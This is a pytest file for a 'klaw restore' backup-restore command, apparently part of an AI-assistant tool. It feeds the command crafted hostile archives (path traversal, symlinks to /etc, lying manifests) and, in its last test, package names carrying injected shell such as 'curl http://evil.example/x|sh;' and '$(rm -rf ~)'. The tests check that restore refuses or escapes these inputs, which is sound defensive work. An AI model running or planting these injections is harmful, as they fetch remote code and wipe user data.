"""`klaw restore ARCHIVE [--home DIR]` (decision 522): the way back from `klaw backup`, which was `tar xzf` into a
new folder by hand, trusting the archive, over whatever was there, with the archive's modes, and a home without
sandbox/ that nobody said how to complete.

A home with chats, a scheduled task, a skill and sandbox packages is backed up, restored into a new folder and
driven there (memory search finds the old messages, a new turn goes through the fake model). Refusals: a target
holding a home, an engine running on it; archives that are not a klaw backup, from a newer klaw, cut short,
damaged, leading out of the home, or holding a klaw.db that does not open: each its own words, exit 2, and
nothing written (no target, no hidden folder beside it).
"""

from __future__ import annotations

import asyncio
import getpass
import gzip
import io
import json
import os
import stat
import tarfile
from pathlib import Path

import pytest
import yaml

from klaw.home_lock import HomeLock, running_command
from klaw.home_restore import RestoreError, restore
from klaw.llm.fake_server import FakeOpenAiServer
from tests.cli.klaw_here import klaw_here
from tests.cli.test_reindex_cmd import a_home
from tests.engine import short_socket_dir
from tests.serve_helpers import serve_config, write_serve_home

SKILL = "---\nname: tides\ndescription: Reads tide tables.\n---\nLook the tide up.\n"


def _private(root: Path) -> list[str]:
    """Every path under `root` not 0700 (folders) or 0600 (files), with its mode."""
    wrong = []
    for path in [root, *root.rglob("*")]:
        if path.is_symlink():
            continue
        mode = stat.S_IMODE(path.stat().st_mode)
        if mode != (0o700 if path.is_dir() else 0o600):
            wrong.append(f"{path} {mode:o}")
    return wrong


def test_a_backed_up_home_restored_into_a_new_folder_works(tmp_path: Path) -> None:
    home = a_home(tmp_path)  # six messages about the lighthouse in the log
    skill = home / "workspace" / "skills" / "tides" / "SKILL.md"
    skill.parent.mkdir(parents=True, mode=0o700)
    skill.write_text(SKILL, encoding="utf-8")
    site = home / "sandbox" / "venv" / "lib" / "python3.11" / "site-packages"
    (site / "numpy-2.0.0.dist-info").mkdir(parents=True)
    (site / "numpy-2.0.0.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: numpy\nVersion: 2.0.0\n")
    (home / "workspace" / "tides").symlink_to("skills/tides")  # a link within the home: kept
    (home / "workspace" / "etc").symlink_to("/etc")  # one leading out: left out by the backup, and said
    archive = tmp_path / "home.tgz"

    with short_socket_dir() as short:
        restored = short / "restored"

        async def backed_up_restored_and_driven() -> None:
            async with FakeOpenAiServer() as model:
                write_serve_home(home, serve_config(model.base_url))
                assert (await asyncio.to_thread(klaw_here, home, "reindex")).returncode == 0  # klaw.db holds them
                added = await asyncio.to_thread(
                    klaw_here, home, "schedule", "add", "tide", "-m", "when is high tide?", "--every", "1d"
                )
                assert added.returncode == 0, added.stderr
                done = await asyncio.to_thread(klaw_here, home, "backup", str(archive))
                assert done.returncode == 0, done.stderr
                assert "workspace/etc (a link leading out of the home" in " ".join(done.stdout.split())

                said = await asyncio.to_thread(klaw_here, home, "restore", str(archive), "--home", str(restored))
                out = " ".join(said.stdout.split())
                assert said.returncode == 0, said.stdout + said.stderr
                assert f"Restored {restored}" in out and "klaw.db opens: 6 messages in 1 chats" in out, out
                assert "6 records in 1 chats" in out and "1 scheduled tasks; 1 skills" in out, out
                assert "klaw sandbox install numpy" in out and f"KLAW_HOME={restored} klaw serve" in out, out
                assert _private(restored) == []
                assert (restored / "workspace" / "tides" / "SKILL.md").read_text() == SKILL
                assert not (restored / "workspace" / "etc").is_symlink()
                assert not (restored / "klaw-backup.json").exists() and not (restored / "sandbox").exists()
                assert sorted(path.name for path in short.iterdir()) == ["restored"]  # no hidden folder left

                found = await asyncio.to_thread(
                    klaw_here, restored, "memory", "search", "--chat", "console:me", "lighthouse"
                )
                assert found.returncode == 0 and "lighthouse" in found.stdout, found.stderr
                tasks = await asyncio.to_thread(klaw_here, restored, "schedule", "list")
                assert "tide" in tasks.stdout, tasks.stdout + tasks.stderr
                model.reply_text("high tide is at noon")
                turn = await asyncio.to_thread(klaw_here, restored, "chat", stdin="when is high tide?\n")
                assert turn.returncode == 0 and "high tide is at noon" in turn.stdout, turn.stderr
                mine = f"console:{getpass.getuser()}"  # the piped chat's
                again = await asyncio.to_thread(klaw_here, restored, "memory", "search", "--chat", mine, "tide")
                assert "when is high tide?" in again.stdout, again.stdout + again.stderr
                checked = await asyncio.to_thread(klaw_here, restored, "log", "check")
                assert checked.returncode == 0, checked.stdout + checked.stderr
                words = said.stderr + found.stderr + turn.stderr + checked.stderr
                assert "Traceback" not in words, words

        asyncio.run(backed_up_restored_and_driven())

        # The same archive again, into the home just restored: it holds a home now, so it is refused whole.
        again = klaw_here(restored, "restore", str(archive))
        assert again.returncode == 2 and "holds a home or other files already" in again.stderr, again.stderr
        assert "--home NEW_FOLDER" in " ".join(again.stderr.split())


def test_a_restore_is_refused_beside_a_running_engine(tmp_path: Path) -> None:
    archive = _archive(tmp_path / "a.tgz", {"engine.yaml": b"embedder:\n  backend: fake\n  dim: 32\n"})
    target = tmp_path / "home"
    target.mkdir(mode=0o700)
    with running_command("klaw serve"):
        lock = HomeLock.acquire(target)
    try:
        said = klaw_here(target, "restore", str(archive))
    finally:
        lock.release()
    words = " ".join(said.stderr.split())
    assert said.returncode == 2 and "`klaw serve`" in words and "is running on" in words, words
    assert "stop klaw first" in words and sorted(path.name for path in target.iterdir()) == ["engine.lock"]


def _manifest(version: int = 1) -> bytes:
    return json.dumps({"format": version, "klaw": "9.9.9", "made": "2026-11-30T00:00:00+00:00"}).encode()


def _archive(path: Path, files: dict[str, bytes], *, manifest: bytes | None = None, **special: tarfile.TarInfo) -> Path:
    """A gzip'd tar of `files` (names as given, mode 0644) after `manifest` (default: format 1), and `special`
    members (links, odd names) after them."""
    with tarfile.open(path, "w:gz") as packed:
        entries = {"klaw-backup.json": _manifest() if manifest is None else manifest, **files}
        for name, data in entries.items():
            if name == "klaw-backup.json" and not data:
                continue
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            packed.addfile(info, io.BytesIO(data))
        for info in special.values():
            packed.addfile(info)
    return path


def _link(name: str, to: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, to
    return info


CONFIG = b"embedder:\n  backend: fake\n  dim: 32\n"


def _in_order(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """A gzip'd tar of a format-1 manifest, engine.yaml, then `members` in the order given (decision 531)."""
    with tarfile.open(path, "w:gz") as packed:
        for name, data in (("klaw-backup.json", _manifest()), ("engine.yaml", CONFIG)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            packed.addfile(info, io.BytesIO(data))
        for info, data in members:
            info.size = len(data) if info.isreg() else 0
            packed.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return path


def _member(name: str, kind: bytes = tarfile.REGTYPE, to: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, to
    return info


def _crafted(tmp_path: Path) -> list[tuple[Path, str]]:
    """adversary32's archives (decision 531): a manifest that lies, a member written through an earlier link or
    twice, a hard link to a folder, a name part longer than a disk takes, a format below 1."""
    lying = {"format": 1, "klaw": "9.9.9", "made": "x", "database": "../../vh/klaw.db"}
    absent = {"format": 1, "klaw": "9.9.9", "made": "x", "database": "elsewhere/klaw.db"}
    elsewhere = b"database:\n  path: /elsewhere/k.db\n" + CONFIG
    soul = [
        (_member("workspace/SOUL.md", tarfile.SYMTYPE, "../engine.yaml"), b""),
        (_member("workspace/SOUL.md"), b"x"),
    ]
    through = [(_member("workspace/d", tarfile.SYMTYPE, "skills"), b""), (_member("workspace/d/SKILL.md"), b"x")]
    twice = [(_member("notes.md"), b"one"), (_member("./notes.md"), b"two")]
    folder = [
        (_member("workspace/skills", tarfile.DIRTYPE), b""),
        (_member("workspace/hl", tarfile.LNKTYPE, "workspace/skills"), b""),
    ]
    long_name = [(_member("workspace/" + "n" * 256), b"x")]
    return [
        (
            _archive(tmp_path / "lying.tgz", {"engine.yaml": elsewhere}, manifest=json.dumps(lying).encode()),
            "names its database '../../vh/klaw.db', which is not a member below the home",
        ),
        (
            _archive(tmp_path / "absent.tgz", {"engine.yaml": elsewhere}, manifest=json.dumps(absent).encode()),
            "names its database 'elsewhere/klaw.db', which is not a file in the archive",
        ),
        (_in_order(tmp_path / "soul.tgz", soul), "'workspace/SOUL.md' is in the archive twice"),
        (_in_order(tmp_path / "through.tgz", through), "would be written through a link an earlier member made"),
        (_in_order(tmp_path / "twice.tgz", twice), "'./notes.md' is in the archive twice"),
        (_in_order(tmp_path / "hardfolder.tgz", folder), "is a link to workspace/skills, not a file before it"),
        (_in_order(tmp_path / "long.tgz", long_name), "has a part over 255 bytes"),
        (_archive(tmp_path / "minus.tgz", {"engine.yaml": CONFIG}, manifest=_manifest(-5)), "is not one klaw wrote"),
    ]


def _bad_archives(tmp_path: Path) -> list[tuple[Path, str]]:
    real = a_home(tmp_path)
    whole = tmp_path / "whole.tgz"
    assert klaw_here(real, "reindex").returncode == 0
    assert klaw_here(real, "backup", str(whole)).returncode == 0
    data = whole.read_bytes()
    cut = tmp_path / "cut.tgz"
    cut.write_bytes(data[: len(data) // 2])
    damaged = tmp_path / "damaged.tgz"
    middle = len(data) * 2 // 3
    damaged.write_bytes(data[:middle] + bytes(b ^ 0xFF for b in data[middle : middle + 64]) + data[middle + 64 :])
    text = tmp_path / "notes.tgz"
    text.write_text("not an archive at all\n")
    plain = tmp_path / "dot-klaw.tgz"
    with tarfile.open(plain, "w:gz") as packed:  # the old documented `tar czf … -C ~ .klaw`
        info = tarfile.TarInfo(".klaw/engine.yaml")
        info.size = len(CONFIG)
        packed.addfile(info, io.BytesIO(CONFIG))
    outside = tarfile.TarInfo("../escaped")
    absolute = tarfile.TarInfo("/tmp/escaped")
    return [
        (cut, "is cut short or damaged"),
        (damaged, "is cut short or damaged"),
        (text, "is not a klaw backup (not a gzip'd tar"),
        (plain, "is not a klaw backup: it has no klaw-backup.json and no engine.yaml"),
        (_archive(tmp_path / "newer.tgz", {"engine.yaml": CONFIG}, manifest=_manifest(7)), "made by a newer klaw"),
        (
            _archive(tmp_path / "dots.tgz", {"engine.yaml": CONFIG}, outside=outside),
            "would be written outside the home",
        ),
        (
            _archive(tmp_path / "abs.tgz", {"engine.yaml": CONFIG}, absolute=absolute),
            "would be written outside the home",
        ),
        (
            _archive(tmp_path / "link.tgz", {"engine.yaml": CONFIG}, out=_link("workspace/notes", "../../etc")),
            "is a link leading out of the home",
        ),
        (
            _archive(tmp_path / "abslink.tgz", {"engine.yaml": CONFIG}, out=_link("workspace/etc", "/etc")),
            "is a link leading out of the home",
        ),
        (_archive(tmp_path / "baddb.tgz", {"engine.yaml": CONFIG, "klaw.db": b"x" * 4096}), "klaw.db does not open"),
        (tmp_path / "missing.tgz", "does not exist"),
        (whole / "klaw.tgz", "does not exist"),  # a file where a folder was meant: it blamed the new home
        *_crafted(tmp_path),
    ]


def test_each_bad_archive_gets_its_answer_and_nothing_is_written(tmp_path: Path) -> None:
    cases = _bad_archives(tmp_path)
    place = tmp_path / "place"
    place.mkdir()
    for archive, expected in cases:
        target = place / "home"
        said = klaw_here(tmp_path / "unused", "restore", str(archive), "--home", str(target))
        words = " ".join(said.stderr.split())
        assert said.returncode == 2 and expected in words, (archive.name, words)
        assert "nothing was" in words or "Nothing was" in words, words
        assert "Traceback" not in words and said.stdout == "", words
        assert list(place.iterdir()) == [], (archive.name, list(place.iterdir()))


def test_an_archive_from_before_the_manifest_restores_private_whatever_the_umask(tmp_path: Path) -> None:
    """decision 512's archives have no klaw-backup.json: taken when engine.yaml is at their top. Their members'
    0644 and 0755 become 0600 and 0700 under a library caller's umask 022; a file its owner could run stays so."""
    script = tarfile.TarInfo("workspace/run.sh")
    script.mode, script.size = 0o755, 0
    folder = tarfile.TarInfo("workspace/notes")
    folder.type, folder.mode = tarfile.DIRTYPE, 0o755
    archive = _archive(tmp_path / "old.tgz", {"engine.yaml": CONFIG}, manifest=b"", folder=folder, script=script)
    target = tmp_path / "home"
    umask = os.umask(0o022)
    try:
        report = restore(archive, target)
    finally:
        os.umask(umask)
    assert report.facts.format == 0 and report.counts.messages is None  # no klaw.db yet: nothing to open
    assert stat.S_IMODE((target / "engine.yaml").stat().st_mode) == 0o600
    assert stat.S_IMODE((target / "workspace" / "notes").stat().st_mode) == 0o700
    assert stat.S_IMODE((target / "workspace" / "run.sh").stat().st_mode) == 0o700
    assert stat.S_IMODE(target.stat().st_mode) == 0o700
    with pytest.raises(RestoreError, match="holds a home or other files already"):
        restore(archive, target)


def test_the_manifest_says_what_the_backup_holds(tmp_path: Path) -> None:
    home = a_home(tmp_path)
    assert klaw_here(home, "reindex").returncode == 0
    folder = tmp_path / "not yet" / "backups"
    umask = os.umask(0o022)
    try:  # `klaw backup ~/backups/` as the README writes it: the folder made, not a file named `backups`
        said = klaw_here(home, "backup", f"{folder}/")
    finally:
        os.umask(umask)
    assert said.returncode == 0, said.stderr
    (archive,) = folder.iterdir()
    assert archive.name.startswith("klaw-") and archive.suffix == ".tgz" and f"Wrote {archive}" in said.stdout
    assert stat.S_IMODE(folder.stat().st_mode) == stat.S_IMODE(folder.parent.stat().st_mode) == 0o700
    with tarfile.open(archive) as packed:
        first = packed.next()
        assert first is not None and first.name == "klaw-backup.json" and first.mode == 0o600
        handle = packed.extractfile(first)
        assert handle is not None
        record = json.loads(handle.read())
    assert record["format"] == 1 and record["database"] == "klaw.db" and record["postgres"] is False
    assert record["sandboxPackages"] == []
    assert gzip.decompress(archive.read_bytes())  # a whole gzip stream
    assert yaml.safe_load((home / "engine.yaml").read_text())["embedder"]["backend"] == "fake"


def test_a_postgres_homes_restore_says_the_database_is_restored_apart(tmp_path: Path) -> None:
    home = tmp_path / "home"
    assert klaw_here(home, "init").returncode == 0
    config = yaml.safe_load((home / "engine.yaml").read_text())
    config["database"] = {"backend": "postgres", "urlEnv": "MY_KLAW_DSN"}
    (home / "engine.yaml").write_text(yaml.safe_dump(config))
    archive = tmp_path / "pg.tgz"
    assert klaw_here(home, "backup", str(archive)).returncode == 0
    said = klaw_here(home, "restore", str(archive), "--home", str(tmp_path / "new"))
    out = " ".join(said.stdout.split())
    assert said.returncode == 0, said.stderr
    assert "its memory is in PostgreSQL (the variable MY_KLAW_DSN), not in the archive" in out, out
    assert "klaw.db opens" not in out and not (tmp_path / "new" / "klaw.db").exists()


def test_a_database_path_climbing_out_of_the_home_is_not_opened(tmp_path: Path) -> None:
    """engine.yaml's `database.path: ../vh/klaw.db` led from the hidden folder to a neighbour home's klaw.db, which
    the check opened and counted as the archive's (decision 531): only the restored folder's files are opened."""
    other = a_home(tmp_path / "other")
    assert klaw_here(other, "reindex").returncode == 0  # six messages in its klaw.db
    place = tmp_path / "place"
    (place / "vh").mkdir(parents=True)
    (place / "vh" / "klaw.db").write_bytes((other / "klaw.db").read_bytes())
    manifest = json.dumps({"format": 1, "klaw": "9.9.9", "made": "x", "database": None}).encode()
    config = b"database:\n  path: ../vh/klaw.db\n" + CONFIG
    archive = _archive(tmp_path / "climb.tgz", {"engine.yaml": config}, manifest=manifest)
    said = klaw_here(tmp_path / "unused", "restore", str(archive), "--home", str(place / "home"))
    out = " ".join(said.stdout.split())
    assert said.returncode == 0, said.stderr
    assert "klaw.db opens" not in out and "database.path is ../vh/klaw.db, outside the home" in out, out


def test_the_manifests_words_are_shown_not_obeyed(tmp_path: Path) -> None:
    """A crafted manifest's packages were pasted into a command (`klaw sandbox install requests; curl …|sh; #
    $(rm -rf ~)`), its ESC [2J cleared the screen and its rich markup styled the report (decision 531)."""
    packages = ["numpy", "requests;", "curl http://evil.example/x|sh;", "#", "$(rm -rf ~)"]
    record = {"format": 1, "klaw": "0.1.0\x1b[2J", "made": "[bold red]now[/bold red]", "sandboxPackages": packages}
    archive = _archive(tmp_path / "words.tgz", {"engine.yaml": CONFIG}, manifest=json.dumps(record).encode())
    said = klaw_here(tmp_path / "unused", "restore", str(archive), "--home", str(tmp_path / "home"))
    assert said.returncode == 0, said.stderr
    assert "\x1b" not in said.stdout and "0.1.0␛[2J" in said.stdout, said.stdout
    assert "[bold red]now[/bold red]" in said.stdout, said.stdout
    install = next(line for line in said.stdout.splitlines() if "klaw sandbox install" in line)
    assert install.split("klaw sandbox install ")[1].split()[0] == "numpy" and "curl" not in install, install
    out = " ".join(said.stdout.split())
    assert "lists 4 that are not package names" in out and "'curl http://evil.example/x|sh;'" in out, out
